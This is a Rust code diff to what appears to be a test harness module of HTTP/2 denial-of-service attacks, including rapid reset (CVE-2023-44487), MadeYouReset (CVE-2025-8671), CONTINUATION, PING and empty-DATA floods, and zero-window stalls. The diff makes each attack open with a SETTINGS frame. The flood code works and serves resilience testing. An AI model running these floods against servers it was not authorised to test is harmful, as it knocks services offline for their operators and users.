@@ -2,11 +2,11 @@
 
 use std::time::Duration;
 
-use super::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
-    WINDOW_UPDATE, frame, get, stream,
-};
 use super::{Attack, LARGE, SMALL};
+use crate::harness::frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS,
+    WINDOW_UPDATE, frame, request,
+};
 
 /// Frames that are sent in one piece.
 const BATCH: u32 = 256;
@@ -16,7 +16,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         name: "rapid reset (CVE-2023-44487)",
         threads: 2,
         run: |target| {
-            target.flood(PREFACE, true, |round| {
+            target.flood(&opening(), true, |round| {
                 batch(round, |number| {
                     let id = stream(number);
                     let opened = frame(HEADERS, END_STREAM | END_HEADERS, id, &get(SMALL));
@@ -29,7 +29,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         name: "MadeYouReset (CVE-2025-8671)",
         threads: 2,
         run: |target| {
-            target.flood(PREFACE, true, |round| {
+            target.flood(&opening(), true, |round| {
                 batch(round, |number| {
                     let id = stream(number);
                     let opened = frame(HEADERS, END_STREAM | END_HEADERS, id, &get(SMALL));
@@ -42,7 +42,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         name: "CONTINUATION without an end",
         threads: 2,
         run: |target| {
-            let opening = [PREFACE, &frame(HEADERS, END_STREAM, 1, &get(SMALL))].concat();
+            let opening = [opening(), frame(HEADERS, END_STREAM, 1, &get(SMALL))].concat();
             target.flood(&opening, true, |_| frame(CONTINUATION, 0, 1, &[]).repeat(BATCH as usize));
         },
     },
@@ -55,7 +55,7 @@ pub(super) const ATTACKS: &[Attack] = &[
             block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
             block.extend_from_slice(&vec![b'a'; 4_000]);
             block.extend_from_slice(&[0xbe; 8_000]);
-            target.flood(PREFACE, true, |round| {
+            target.flood(&opening(), true, |round| {
                 frame(HEADERS, END_STREAM | END_HEADERS, stream(round), &block)
             });
         },
@@ -64,7 +64,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         name: "empty DATA",
         threads: 2,
         run: |target| {
-            let opening = [PREFACE, &frame(HEADERS, END_HEADERS, 1, &get(SMALL))].concat();
+            let opening = [opening(), frame(HEADERS, END_HEADERS, 1, &get(SMALL))].concat();
             target.flood(&opening, true, |_| frame(DATA, 0, 1, &[]).repeat(BATCH as usize));
         },
     },
@@ -85,7 +85,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         threads: 2,
         run: |target| {
             let frames = frame(PING, 0, 0, &[0; 8]).repeat(BATCH as usize);
-            target.flood(PREFACE, false, |_| frames.clone());
+            target.flood(&opening(), false, |_| frames.clone());
         },
     },
     Attack {
@@ -93,7 +93,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         threads: 1,
         run: |target| {
             // Initial windows of no bytes: the heads come, and nothing of the bodies may.
-            let mut opening = PREFACE.to_vec();
+            let mut opening = opening();
             opening.extend_from_slice(&frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]));
             for number in 0..100 {
                 opening.extend_from_slice(&frame(
@@ -108,11 +108,25 @@ pub(super) const ATTACKS: &[Attack] = &[
     },
 ];
 
+/// What a client says first.
+fn opening() -> Vec<u8> {
+    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
+}
+
+fn get(path: &str) -> Vec<u8> {
+    request("GET", path, &[])
+}
+
+/// The id of the client's stream of that number.
+fn stream(number: u32) -> u32 {
+    number * 2 + 1
+}
+
 fn batch(round: u32, one: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
     (0..BATCH).flat_map(|number| one(round * BATCH + number)).collect()
 }
 
 fn flood(target: &super::Target, frame: &[u8]) {
     let frames = frame.repeat(BATCH as usize);
-    target.flood(PREFACE, true, |_| frames.clone());
+    target.flood(&opening(), true, |_| frames.clone());
 }
